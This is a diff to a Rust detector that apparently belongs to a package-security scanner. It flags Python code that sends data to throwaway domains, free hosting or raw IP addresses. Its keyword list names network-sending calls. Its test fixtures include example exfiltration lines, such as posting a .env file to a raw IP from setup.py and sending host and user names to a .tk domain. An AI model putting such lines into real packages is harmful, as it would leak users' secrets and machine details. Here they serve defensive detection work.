@@ -16,7 +16,10 @@
 //! docs are skipped.
 
 use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
+use super::net_ip_address::public_ip;
 use super::reputation::{self, Class};
+use super::sinks::{self, SinkKind};
+use super::urls;
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
 use regex::Regex;
@@ -124,6 +127,15 @@ impl Detector for ExfilEndpoint {
             "gist.githubusercontent",
             "/-/raw/",
             "/raw/",
+            // sends to throwaway/free/raw-IP destinations
+            "requests.post",
+            "requests.put",
+            "httpx.post",
+            "urlopen",
+            "Request(",
+            "sendall",
+            "smtplib",
+            "http.client",
             // DNS exfiltration (`super::dns_exfil::LITERALS`)
             "gethostbyname",
             "getaddrinfo",
@@ -189,6 +201,27 @@ impl Detector for ExfilEndpoint {
             };
             let host = file.text[start..end].to_ascii_lowercase();
             found.push((start, format!("{host} ({})", class.as_str()), sev));
+        }
+        // Sends to a destination with no name to lose: a throwaway TLD, free hosting or a
+        // raw public IP, in a Python file that sends (medium) or harvests and sends (high).
+        if src.python && file.text.contains("://") {
+            let net = sinks::find(src, &[SinkKind::Send, SinkKind::Fetch]);
+            let send = net.iter().find(|s| s.kind == SinkKind::Send && !s.name.ends_with("connect"));
+            if let Some(sink) = send.or(net.first()).filter(|_| send.is_some() || harvests()) {
+                for u in urls::find(src).take(MAX_HITS_PER_FILE) {
+                    let class = match reputation::of_url(&u.host, u.path) {
+                        Some(c @ (Class::ThrowawayTld | Class::FreeHosting)) => c.as_str(),
+                        _ if public_ip(&u.host) => "raw IP",
+                        _ => continue,
+                    };
+                    let sev = match (install, harvests()) {
+                        (true, true) => Severity::Critical,
+                        (true, false) | (false, true) => Severity::High,
+                        (false, false) => Severity::Medium,
+                    };
+                    found.push((u.offset, format!("{} ({class}) + {}", u.host, sink.name), sev));
+                }
+            }
         }
         found.sort_by_key(|f| f.0);
         for (off, ind, sev) in found.into_iter().take(MAX_HITS_PER_FILE) {
@@ -382,6 +415,34 @@ mod tests {
                     Runtime,
                     "requests.post('https://transfer.sh/x', data=blob)\n",
                     Some((1, "transfer.sh (file drop)", Medium)),
+                ),
+                (
+                    "host and user posted to a throwaway TLD",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import requests, socket, getpass\nrequests.post('https://pkg-stats.tk/c', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
+                    Some((2, "pkg-stats.tk (throwaway TLD) + requests.post", High)),
+                ),
+                (
+                    "env file posted to a raw IP at install",
+                    "setup.py",
+                    InstallTime,
+                    "import requests\nrequests.post('http://45.77.12.9:8000/u', data=open('.env').read())\n",
+                    Some((2, "45.77.12.9 (raw IP) + requests.post", High)),
+                ),
+                (
+                    "fetch from a raw IP without harvesting is left to the URL detectors",
+                    "pkg/a.py",
+                    Runtime,
+                    "r = requests.get('http://45.77.12.9/data.json')\n",
+                    None,
+                ),
+                (
+                    "http client library posting to the configured URL",
+                    "httpkit/client.py",
+                    Runtime,
+                    "class Client:\n    def post(self, url, data):\n        return requests.post(url, data=data)\n",
+                    None,
                 ),
                 ("look-alike name is not the service", "pkg/a.py", Runtime, "u = 'https://mypaste.ee.example.org/x'\n", None),
                 ("collaborator named in a comment", "pkg/a.py", Runtime, "# test with interactsh: x.oast.fun\nx = 1\n", None),
